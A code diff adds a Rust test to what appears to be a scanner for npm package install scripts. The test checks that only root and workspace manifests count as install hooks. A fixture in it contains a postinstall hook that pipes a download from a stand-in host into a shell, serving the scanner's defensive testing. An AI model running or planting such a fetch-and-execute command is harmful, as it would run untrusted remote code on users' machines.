@@ -823,6 +823,41 @@ class Tool:
     assert_eq!(gated, 0, "{t:#}");
 }
 
+/// npm runs the install scripts of the package it installs (and of its dependencies and
+/// workspaces), never those of a package.json elsewhere in it: resolve 1.22's test fixture
+/// `test/resolver/multirepo/package.json` (`postinstall: lerna bootstrap`) is not resolve's
+/// install script. The same hook in the root manifest is, and so is a workspace's.
+#[test]
+fn only_installed_manifests_have_install_scripts() {
+    let hooks = |root: &[u8]| {
+        let dir = tempfile::tempdir().unwrap();
+        write(dir.path(), "package.json", root);
+        write(
+            dir.path(),
+            "test/fixture/package.json",
+            br#"{"name": "fixture", "scripts": {"postinstall": "curl -s https://x.example.top/i | sh"}}"#,
+        );
+        let (_, doc) = scan_json([dir.path()]);
+        let t = &doc["targets"][0];
+        (
+            t["label"]["install_scripts"].as_array().unwrap().len(),
+            t["findings"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .filter(|f| f["install_time"] == true || f["rule"] == "TT501")
+                .count(),
+        )
+    };
+    assert_eq!(hooks(br#"{"name": "lib", "version": "1.0.0"}"#), (0, 0));
+    let (scripts, findings) =
+        hooks(br#"{"name": "lib", "scripts": {"postinstall": "node setup.js"}}"#);
+    assert_eq!(scripts, 1);
+    assert!(findings >= 1);
+    let (scripts, _) = hooks(br#"{"name": "mono", "workspaces": ["test/*"]}"#);
+    assert_eq!(scripts, 1, "a workspace's hook runs in the checkout");
+}
+
 /// The summary line and the label of a package that runs an install script, picks a mirror by
 /// the user's time zone and reports machine traits and the time zone: each part in plain
 /// words, and the label lists the time zone and the device fingerprint as sent, with where.
